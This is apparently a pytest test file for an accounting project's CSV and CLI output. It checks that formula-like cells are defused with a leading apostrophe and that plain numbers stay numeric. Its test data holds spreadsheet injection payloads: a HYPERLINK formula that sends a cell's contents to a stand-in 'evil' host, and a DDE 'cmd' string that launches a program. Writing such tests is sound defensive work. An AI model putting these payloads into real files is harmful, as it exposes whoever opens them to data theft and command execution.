"""CSV/XLSX injection: every writer of spreadsheet cells defuses formulas and keeps numbers numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alliance.cli.output import OutputFormat, emit
from alliance.core.cells import FORMULA_START, defuse, undefuse
from alliance.core.money import Money
from alliance.settlement.journal import JournalEntry, to_csv

FORMULAS = ["=1+1", "@SUM(A1:A9)", '=HYPERLINK("http://evil/?"&A1,"点我")', "+86 571", "-1+1",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "-abc", "-1e3", "-NaN"]
NUMBERS = ["-12.50", "-3", "0.00", "12.50", "1000.01"]


def spreadsheet_reads_as_formula(cell: str) -> bool:
    """What Excel, WPS and LibreOffice do with a CSV cell: a formula if it starts with one of these
    characters, unless it is a plain number."""
    return cell.startswith(FORMULA_START) and not is_number(cell)


def is_number(cell: str) -> bool:
    try:
        return Decimal(cell).is_finite() and "e" not in cell.lower()
    except ArithmeticError:
        return False


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_like_text_gets_an_apostrophe(cell: str) -> None:
    assert defuse(cell) == "'" + cell and not spreadsheet_reads_as_formula(defuse(cell))


@pytest.mark.parametrize("cell", NUMBERS)
def test_plain_numbers_stay_numbers(cell: str) -> None:
    assert defuse(cell) == cell and is_number(defuse(cell))


@given(st.text(max_size=12) | st.sampled_from(FORMULAS + NUMBERS).map(lambda c: "'" + c))
def test_defused_text_is_never_a_formula_and_reads_back_exactly(cell: str) -> None:
    assert not spreadsheet_reads_as_formula(defuse(cell))
    assert undefuse(defuse(cell)) == cell


def test_journal_csv_defuses_rule_ids_and_accounts_and_keeps_amounts_numbers() -> None:
    entry = JournalEntry(date(2026, 12, 5), "hw-split", 1, "=1+1", "fixed_split", None,
                         (('=HYPERLINK("http://evil","x")', Money(1250, "CNY")), ("@SUM(A1:A9)", Money(-1250, "CNY"))))
    header, *rows = csv.reader(io.StringIO(to_csv([entry])))
    assert [r[3] for r in rows] == ["'=1+1", "'=1+1"]
    assert [r[6] for r in rows] == ['\'=HYPERLINK("http://evil","x")', "'@SUM(A1:A9)"]
    assert [r[7] for r in rows] == ["12.50", "-12.50"]
    assert all(not spreadsheet_reads_as_formula(cell) for r in [header, *rows] for cell in r)


def test_cli_csv_output_defuses_every_cell(capsys: pytest.CaptureFixture[str]) -> None:
    emit(OutputFormat.CSV, ["code", "=name"], [["M1", '=HYPERLINK("http://evil","x")'], ["M2", Decimal("-12.50")],
                                             ["M3", None]], None)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["code", "'=name"], ["M1", '\'=HYPERLINK("http://evil","x")'], ["M2", "-12.50"], ["M3", ""]]
